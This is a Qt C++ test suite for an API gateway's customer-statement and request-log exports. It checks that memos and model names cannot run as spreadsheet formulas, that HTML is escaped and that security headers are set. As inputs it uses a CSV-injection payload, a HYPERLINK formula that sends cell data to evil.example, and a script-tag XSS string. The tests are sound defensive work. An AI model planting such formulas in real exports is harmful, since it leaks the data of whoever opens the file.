// The customer statement (json, csv, html) and the request log (json, and csv with the same
// filters and columns) as files for people: a memo or a model name that a spreadsheet would run as
// a formula is a text cell prefixed with ' while amounts stay numbers; markup in a memo is escaped
// in the printed page; the printed page draws the balance at the end of each day; and every
// export carries X-Content-Type-Options: nosniff, the html page a Content-Security-Policy that
// allows its inline style and nothing else.
#include "GatewayHarness.h"
#include "bytespike/MoneyFormat.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QRegularExpression>
#include <QTest>

#include <sqlite3.h>

using namespace bytespike;
using namespace bytespike::testing;

class TestExports : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void initTestCase();
    void cleanupTestCase();
    void statementCellsCannotBeFormulas();
    void statementHeaders_data();
    void statementHeaders();
    void requestLogAsCsv();
    void requestLogCsvFilters();
    void statementWithoutLines();
    void statementBalancePerDay();

private:
    HttpResult admin(const QByteArray &method, const QString &path, const QJsonObject &body = {});

    MockUpstream m_mock;
    GatewayProcess m_gateway;
    HttpClient m_http;
    QString m_customer;
    QByteArray m_key;
};

namespace {

const QString kHyperlink = QStringLiteral("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Refund\")");

// RFC 4180 records: quoted cells may hold commas, quotes ("") and line breaks.
QList<QStringList> parseCsv(const QByteArray &bytes)
{
    const QString text = QString::fromUtf8(bytes);
    QList<QStringList> records;
    QStringList record;
    QString cell;
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text[i];
        if (quoted) {
            if (c == u'"' && i + 1 < text.size() && text[i + 1] == u'"') {
                cell += c;
                ++i;
            } else if (c == u'"') {
                quoted = false;
            } else {
                cell += c;
            }
        } else if (c == u'"') {
            quoted = true;
        } else if (c == u',') {
            record << cell;
            cell.clear();
        } else if (c == u'\n' || c == u'\r') {
            if (c == u'\r' && i + 1 < text.size() && text[i + 1] == u'\n')
                ++i;
            record << cell;
            records << record;
            record.clear();
            cell.clear();
        } else {
            cell += c;
        }
    }
    if (!cell.isEmpty() || !record.isEmpty())
        records << (record << cell);
    return records;
}

} // namespace

void TestExports::initTestCase()
{
    QString error;
    QVERIFY2(startWithMockChannel(m_mock, m_gateway, m_http, &error), qPrintable(error));
    m_customer = createCustomer(m_http, m_gateway, 0, &m_key);
    QVERIFY(!m_customer.isEmpty());
    for (const QString &memo : {kHyperlink, QStringLiteral("-5"), QStringLiteral("+1 bonus"), QStringLiteral("@admin"),
             QStringLiteral("<script>alert(1)</script>")})
        QCOMPARE(admin("POST", QStringLiteral("/admin/customers/%1/credits").arg(m_customer),
                     {{QStringLiteral("amount_micros"), 1000000}, {QStringLiteral("memo"), memo}})
                     .status,
            201);
}

void TestExports::cleanupTestCase()
{
    QCOMPARE(m_gateway.terminate(), 0);
    QByteArray report;
    QVERIFY2(m_gateway.ledgerClean(&report), report.constData());
}

HttpResult TestExports::admin(const QByteArray &method, const QString &path, const QJsonObject &body)
{
    return m_http.send(method, m_gateway.url() + path, m_gateway.adminHeaders(),
        body.isEmpty() ? QByteArray() : QJsonDocument(body).toJson(QJsonDocument::Compact));
}

void TestExports::statementCellsCannotBeFormulas()
{
    // One billed request, so the statement has a debit line too.
    QCOMPARE(m_http
                 .send("POST", m_gateway.url() + QStringLiteral("/v1/messages"), m_gateway.customerHeaders(m_key),
                     messagesBody(QStringLiteral("claude-mock")))
                 .status,
        200);
    HttpResult csv;
    QList<QStringList> records;
    for (int attempt = 0; attempt < 250 && records.size() < 9; ++attempt) {
        csv = admin("GET", QStringLiteral("/admin/customers/%1/statement?format=csv").arg(m_customer));
        records = parseCsv(csv.body);
        if (records.size() < 9)
            QTest::qWait(20);
    }
    QCOMPARE(csv.status, 200);
    // header, opening, five credits, one debit, closing
    QCOMPARE(records.size(), 9);
    QCOMPARE(records[0].value(9), QStringLiteral("amount_micros"));
    QCOMPARE(records[0].value(10), QStringLiteral("memo"));
    QStringList memos;
    for (qsizetype i = 2; i < 7; ++i) {
        QCOMPARE(records[i].value(1), QStringLiteral("credit"));
        QCOMPARE(records[i].value(9), QStringLiteral("1000000")); // a number, not prefixed
        memos << records[i].value(10);
    }
    QCOMPARE(memos,
        QStringList({QStringLiteral("'") + kHyperlink, QStringLiteral("'-5"), QStringLiteral("'+1 bonus"),
            QStringLiteral("'@admin"), QStringLiteral("<script>alert(1)</script>")}));
    QCOMPARE(records[7].value(1), QStringLiteral("debit"));
    QVERIFY(records[7].value(9).toLongLong() > 0);
    QCOMPARE(records[8].value(1), QStringLiteral("closing"));
    QCOMPARE(records[8].value(9).toLongLong(), 5000000 - records[7].value(9).toLongLong());
    QVERIFY(!csv.body.contains(",=") && !csv.body.contains(",@") && !csv.body.contains(",+"));

    // The printed statement escapes the markup and runs nothing.
    const HttpResult html = admin("GET", QStringLiteral("/admin/customers/%1/statement?format=html").arg(m_customer));
    QCOMPARE(html.status, 200);
    QVERIFY(html.body.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
    QVERIFY(!html.body.contains("<script"));
}

void TestExports::statementHeaders_data()
{
    QTest::addColumn<QString>("format");
    QTest::addColumn<QByteArray>("type");
    QTest::newRow("json") << QStringLiteral("json") << QByteArray("application/json");
    QTest::newRow("csv") << QStringLiteral("csv") << QByteArray("text/csv; charset=utf-8");
    QTest::newRow("html") << QStringLiteral("html") << QByteArray("text/html; charset=utf-8");
}

void TestExports::statementHeaders()
{
    QFETCH(QString, format);
    QFETCH(QByteArray, type);
    const HttpResult r
        = admin("GET", QStringLiteral("/admin/customers/%1/statement?format=%2").arg(m_customer, format));
    QCOMPARE(r.status, 200);
    QCOMPARE(r.header("content-type"), type);
    QCOMPARE(r.header("x-content-type-options"), QByteArray("nosniff"));
    QCOMPARE(r.header("content-security-policy"),
        format == QLatin1String("html") ? QByteArray("default-src 'none'; style-src 'unsafe-inline'; img-src data:;"
                                                     " base-uri 'none'; form-action 'none'; frame-ancestors 'none'")
                                        : QByteArray());
    if (format == QLatin1String("json"))
        QCOMPARE(r.json().value(QStringLiteral("customer")).toString(), m_customer);
}

// A customer's request for a model named like a formula is logged as asked; the request log's csv
// has the JSON item's fields as columns, that name as a text cell, and the numbers as numbers.
void TestExports::requestLogAsCsv()
{
    const HttpResult asked = m_http.send("POST", m_gateway.url() + QStringLiteral("/v1/messages"),
        m_gateway.customerHeaders(m_key), messagesBody(kHyperlink));
    QCOMPARE(asked.status, 404);
    const QByteArray requestId = asked.header("request-id");
    const QJsonObject item = requestLogEntry(m_http, m_gateway, requestId);
    QCOMPARE(item.value(QStringLiteral("model")).toString(), kHyperlink);
    const HttpResult csv
        = admin("GET", QStringLiteral("/admin/requests?format=csv&request=") + QString::fromLatin1(requestId));
    QCOMPARE(csv.status, 200);
    QCOMPARE(csv.header("content-type"), QByteArray("text/csv; charset=utf-8"));
    QCOMPARE(csv.header("x-content-type-options"), QByteArray("nosniff"));
    const QList<QStringList> records = parseCsv(csv.body);
    QCOMPARE(records.size(), 2);
    const QStringList header = records[0];
    QCOMPARE(header,
        QStringList({QStringLiteral("request_id"), QStringLiteral("time"), QStringLiteral("customer"),
            QStringLiteral("protocol"), QStringLiteral("model"), QStringLiteral("endpoint"), QStringLiteral("status"),
            QStringLiteral("billed"), QStringLiteral("not_billed_reason"), QStringLiteral("hold_micros"),
            QStringLiteral("cost_micros"), QStringLiteral("input_tokens"), QStringLiteral("output_tokens"),
            QStringLiteral("cache_write_tokens"), QStringLiteral("cache_read_tokens"),
            QStringLiteral("usage_estimated"), QStringLiteral("latency_ms"), QStringLiteral("ttfb_ms"),
            QStringLiteral("hold_id"), QStringLiteral("entry_id"), QStringLiteral("price_version"),
            QStringLiteral("request_body")}));
    const QStringList row = records[1];
    const auto cell = [&](const char *name) { return row.value(header.indexOf(QLatin1String(name))); };
    QCOMPARE(cell("request_id"), QString::fromLatin1(requestId));
    QCOMPARE(cell("model"), QStringLiteral("'") + kHyperlink);
    QCOMPARE(cell("status"), QStringLiteral("404"));
    QCOMPARE(cell("billed"), QStringLiteral("false"));
    QCOMPARE(cell("customer"), m_customer);
    QCOMPARE(cell("time"), item.value(QStringLiteral("time")).toString());
    QCOMPARE(cell("not_billed_reason"), item.value(QStringLiteral("not_billed_reason")).toString());
    QCOMPARE(cell("cost_micros"), QStringLiteral("0"));
    QCOMPARE(cell("hold_id"), QString()); // null in the JSON
}

void TestExports::requestLogCsvFilters()
{
    // The same filters as the JSON list: the same requests, in the same order.
    const QString filters = QStringLiteral("customer=%1&status=200&limit=5").arg(m_customer);
    const QJsonArray items
        = admin("GET", QStringLiteral("/admin/requests?") + filters).json().value(QStringLiteral("requests")).toArray();
    QVERIFY(!items.isEmpty());
    const QList<QStringList> records
        = parseCsv(admin("GET", QStringLiteral("/admin/requests?format=csv&") + filters).body);
    QCOMPARE(records.size(), items.size() + 1);
    for (qsizetype i = 0; i < items.size(); ++i) {
        const QJsonObject item = items[i].toObject();
        QCOMPARE(records[i + 1].value(0), item.value(QStringLiteral("request_id")).toString());
        QCOMPARE(records[i + 1].value(10).toLongLong(), item.value(QStringLiteral("cost_micros")).toInteger());
        QCOMPARE(records[i + 1].value(11).toLongLong(),
            item.value(QStringLiteral("usage")).toObject().value(QStringLiteral("input_tokens")).toInteger());
        QCOMPARE(records[i + 1].value(19).toLongLong(), item.value(QStringLiteral("entry_id")).toInteger());
    }
    QCOMPARE(admin("GET", QStringLiteral("/admin/requests?format=xml")).status, 400);
}

// A customer without lines in the period: the summary, and no balance (nor debits) per day.
void TestExports::statementWithoutLines()
{
    QByteArray key;
    const QString customer = createCustomer(m_http, m_gateway, 0, &key);
    QVERIFY(!customer.isEmpty());
    const HttpResult html = admin("GET", QStringLiteral("/admin/customers/%1/statement?format=html").arg(customer));
    QCOMPARE(html.status, 200);
    QVERIFY(html.body.contains("Summary"));
    QVERIFY(!html.body.contains("Balance per day"));
    QVERIFY(!html.body.contains("class=\"wide balance\""));
    QVERIFY(!html.body.contains("Debits per day"));
}

// The balance at the end of every UTC day from the first line's to the last's, a day without
// lines keeping the balance before, with a bar as wide as its share of the highest and none for a
// balance below zero. The ledger only writes the present, so the lines are moved into the past in
// the database while the gateway is stopped (last, as it restarts the gateway).
void TestExports::statementBalancePerDay()
{
    QByteArray key;
    const QString customer = createCustomer(m_http, m_gateway, 0, &key);
    const QString credits = QStringLiteral("/admin/customers/%1/credits").arg(customer);
    QCOMPARE(admin("POST", credits, {{QStringLiteral("amount_micros"), 10000000}}).status, 201);
    for (int i = 0; i < 2; ++i)
        QCOMPARE(m_http
                     .send("POST", m_gateway.url() + QStringLiteral("/v1/messages"), m_gateway.customerHeaders(key),
                         messagesBody(QStringLiteral("claude-mock")))
                     .status,
            200);
    QVERIFY(QTest::qWaitFor(
        [&] {
            return customerStatement(m_http, m_gateway, customer).value(QStringLiteral("lines")).toArray().size() == 3;
        },
        10000));
    QCOMPARE(admin("POST", credits, {{QStringLiteral("amount_micros"), 2500000}}).status, 201);
    // In the order written (credit, debit, debit, credit): the first debit on 27 February, before
    // the credit on the 28th; nothing on 1 March; the second debit and credit on 2 March.
    QCOMPARE(m_gateway.terminate(), 0);
    {
        const auto ms = [](int month, int day, int hour) {
            return QString::number(QDateTime(QDate(2025, month, day), QTime(hour, 0), Qt::UTC).toMSecsSinceEpoch());
        };
        const QString sql = QStringLiteral("UPDATE ledger_entries SET created_at = CASE (SELECT COUNT(*) FROM"
                                           " ledger_entries e WHERE e.customer_id = ledger_entries.customer_id AND"
                                           " e.id < ledger_entries.id) WHEN 0 THEN %1 WHEN 1 THEN %2 WHEN 2 THEN %3"
                                           " ELSE %4 END WHERE customer_id = '%5'")
                                .arg(ms(2, 28, 9), ms(2, 27, 15), ms(3, 2, 10), ms(3, 2, 12), customer);
        sqlite3 *db = nullptr;
        QCOMPARE(
            sqlite3_open((m_gateway.dataDir() + QStringLiteral("/bytespike.db")).toUtf8().constData(), &db), SQLITE_OK);
        char *message = nullptr;
        const int rc = sqlite3_exec(db, sql.toUtf8().constData(), nullptr, nullptr, &message);
        const int changed = sqlite3_changes(db);
        sqlite3_close(db);
        QVERIFY2(rc == SQLITE_OK, message);
        QCOMPARE(changed, 4);
    }
    QString error;
    QVERIFY2(m_gateway.start(&error), qPrintable(error));

    const QString statement
        = QStringLiteral("/admin/customers/%1/statement?from=2025-02-27&to=2025-03-03").arg(customer);
    const QJsonArray lines = admin("GET", statement).json().value(QStringLiteral("lines")).toArray();
    QCOMPARE(lines.size(), 4);
    QCOMPARE(lines[0].toObject().value(QStringLiteral("kind")).toString(), QStringLiteral("debit"));
    QCOMPARE(lines[2].toObject().value(QStringLiteral("kind")).toString(), QStringLiteral("debit"));
    const qint64 first = lines[0].toObject().value(QStringLiteral("amount_micros")).toInteger();
    const qint64 second = lines[2].toObject().value(QStringLiteral("amount_micros")).toInteger();
    QVERIFY(first > 0 && second > 0 && second < 2500000);
    const QList<qint64> closing {-first, 10000000 - first, 10000000 - first, 12500000 - first - second};
    const QLocale en(QStringLiteral("en"));
    QStringList days;
    QStringList amounts;
    QList<int> widths;
    for (qsizetype i = 0; i < closing.size(); ++i) {
        days << en.toString(QDate(2025, 2, 27).addDays(i), QLocale::ShortFormat);
        amounts << formatMoney(closing[i], en).toHtmlEscaped();
        widths << (closing[i] > 0 ? int(std::max<qint64>(1, closing[i] * 100 / closing.last())) : 0);
    }

    const QString page = QString::fromUtf8(admin("GET", statement + QStringLiteral("&format=html")).body);
    const qsizetype at = page.indexOf(QLatin1String("<table class=\"wide balance\""));
    QVERIFY(at > 0);
    QVERIFY(page.left(at).endsWith(QLatin1String("<h2>Balance per day</h2>\n")));
    const QString table = page.mid(at, page.indexOf(QLatin1String("<h2>"), at) - at);
    static const QRegularExpression dayRow(
        QStringLiteral("<tr><td>([^<]*)</td><td class=\"chart\"[^>]*>(.*?)</td><td class=\"num\">([^<]*)</td></tr>"));
    static const QRegularExpression bar(QStringLiteral("<td width=\"(\\d+)%\" bgcolor="));
    QStringList shownDays;
    QStringList shownAmounts;
    QList<int> shownWidths;
    for (auto rows = dayRow.globalMatch(table); rows.hasNext();) {
        const QRegularExpressionMatch row = rows.next();
        shownDays << row.captured(1);
        shownAmounts << row.captured(3);
        const QRegularExpressionMatch drawn = bar.match(row.captured(2));
        shownWidths << (drawn.hasMatch() ? drawn.captured(1).toInt() : 0);
        QVERIFY2(!row.captured(2).contains(QLatin1String("width=\"-")), qPrintable(row.captured(2)));
    }
    QCOMPARE(shownDays, days);
    QCOMPARE(shownAmounts, amounts);
    QCOMPARE(shownWidths, widths);
    QCOMPARE(widths.first(), 0); // below zero: no bar
    QCOMPARE(widths.last(), 100);
    // In the customer's language too.
    QVERIFY(admin("GET", statement + QStringLiteral("&format=html&locale=de")).body.contains("Saldo pro Tag"));
}

QTEST_GUILESS_MAIN(TestExports)
#include "tst_exports.moc"
